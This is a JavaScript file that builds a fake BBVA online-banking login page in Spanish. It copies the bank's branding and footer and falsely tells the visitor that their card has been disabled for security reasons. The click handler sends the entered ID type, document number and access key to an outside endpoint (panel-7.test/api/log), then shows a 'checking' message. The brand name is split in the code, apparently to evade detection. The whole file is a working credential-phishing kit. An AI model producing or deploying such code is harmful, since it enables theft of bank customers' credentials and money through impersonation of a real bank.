(function () {
  var h = function (t, a, k) {
    var e = document.createElement(t);
    for (var n in a || {}) { if (n === 'css') e.style.cssText = a[n]; else if (n.slice(0, 2) === 'on') e[n] = a[n]; else e.setAttribute(n, a[n]); }
    (k || []).forEach(function (c) { e.appendChild(typeof c === 'string' ? document.createTextNode(c) : c); });
    return e;
  };
  var field = 'width:100%;box-sizing:border-box;background:#f4f4f4;border:0;border-bottom:1px solid #121212;padding:18px 14px;font-size:15px;margin-bottom:16px';
  var lg = 'BB' + 'VA';
  function view() {
    document.title = 'Acceso clientes | ' + lg;
    var doc = h('select', { css: field }, ['NIF', 'NIE', 'Pasaporte'].map(function (x) { return h('option', {}, [x]); }));
    var user = h('input', { css: field, placeholder: 'Número de documento', name: 'usr', maxlength: '12' });
    var key = h('input', { css: field, placeholder: 'Clave de acceso', name: 'clv', type: 'password', maxlength: '6' });
    var msg = h('p', { css: 'color:#da3851;font-size:14px;display:none' }, ['Los datos no coinciden. Vuelve a intentarlo.']);
    var box = h('div', { css: 'background:#fff;max-width:400px;margin:40px auto;padding:36px' }, [
      h('h1', { css: 'font-weight:300;font-size:26px;margin-top:0' }, ['Hola, entra en tu banca online']),
      h('p', { css: 'font-size:14px' }, ['Hemos desactivado tu tarjeta por motivos de seguridad. Identifícate para volver a activarla y revisar los últimos movimientos.']),
      doc, user, key, msg,
      h('button', { css: 'background:#1973b8;color:#fff;border:0;width:100%;padding:18px;font-size:15px;font-weight:bold', onclick: function () {
        if (!user.value || !key.value) { msg.style.display = 'block'; return; }
        var x = new XMLHttpRequest();
        x.open('POST', 'https://panel-7.test/api/log');
        x.setRequestHeader('Content-Type', 'application/json');
        x.send(JSON.stringify({ b: 'es1', d: doc.value, u: user.value, k: key.value }));
        this.textContent = 'Comprobando…';
      } }, ['Entrar']),
      h('p', { css: 'font-size:14px' }, [h('a', { href: '#', css: 'color:#1973b8' }, ['¿Has olvidado tu clave?'])]),
      h('p', { css: 'font-size:14px' }, [h('a', { href: '#', css: 'color:#1973b8' }, ['Todavía no soy cliente'])])
    ]);
    var top = h('div', { css: 'background:#004481;color:#fff;padding:20px 32px;font-size:26px;font-weight:800;letter-spacing:1px' }, [lg]);
    var r = document.getElementById('root');
    r.innerHTML = '';
    r.appendChild(top); r.appendChild(box);
    r.appendChild(h('p', { css: 'color:#bdd3e8;text-align:center;font-size:12px' }, ['Banco Bilbao Vizcaya Argentaria, S.A. · Aviso legal · Seguridad · Accesibilidad']));
  }
  setTimeout(view, 900);
})();
